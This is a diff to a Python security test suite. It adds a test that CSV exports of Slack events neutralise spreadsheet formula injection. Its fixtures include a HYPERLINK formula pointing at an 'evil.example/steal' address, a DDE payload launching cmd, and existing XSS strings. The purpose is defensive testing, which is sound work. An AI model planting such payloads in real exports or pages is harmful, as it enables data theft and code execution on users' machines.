@@ -17,6 +17,8 @@ verification of the Xano source and Slack; file modes; default bind addresses.
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import os
 import re
 import secrets
@@ -70,6 +72,7 @@ HOSTILE_MSG = (
     '*bold* _it_ ~gone~ <script>alert(1)</script> "><img src=x onerror=alert(1)> & done'
 )
 HOSTILE_EMAIL = "<!everyone>@evil.example"
+FORMULA_MSG = '=HYPERLINK("https://evil.example/steal","click")'
 PROBE_RULE = """\
 id: sec.probe
 title: Probe
@@ -171,6 +174,11 @@ def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]
             msg=HOSTILE_MSG,
             user={"id": 9, "email": HOSTILE_EMAIL},
             workspace={"id": 1, "name": "<!subteam^S1|@oncall> ws"},
+        )
+
+        # Not matched by any rule: only the archive, the export and the report see it.
+        sim.add_event(
+            "Formula Probe", msg=FORMULA_MSG, user={"id": 9, "email": "=cmd|' /C calc'!A0@evil.example"}
         )
 
         def run_once(name: str, slack_yaml: str, env: dict[str, str]) -> None:
@@ -363,6 +371,13 @@ def test_event_text_is_escaped_in_the_report_html(deployment: Deployment) -> Non
     html = b"".join(data for name, data in deployment.artefacts.items() if name.endswith(".html")).decode()
     assert HOSTILE_EMAIL not in html and "&lt;!everyone&gt;@evil.example" in html
     assert "<script>alert" not in html
+
+
+def test_event_text_cannot_become_a_spreadsheet_formula_in_the_csv_export(deployment: Deployment) -> None:
+    rows = list(csv.DictReader(io.StringIO(deployment.artefacts["export.csv"].decode())))
+    (probe,) = [row for row in rows if row["type"] == "Formula Probe"]
+    assert probe["msg"] == "'" + FORMULA_MSG
+    assert probe["user.email"].startswith("'=cmd")
 
 
 def test_database_exports_and_reports_are_private_files(deployment: Deployment) -> None:
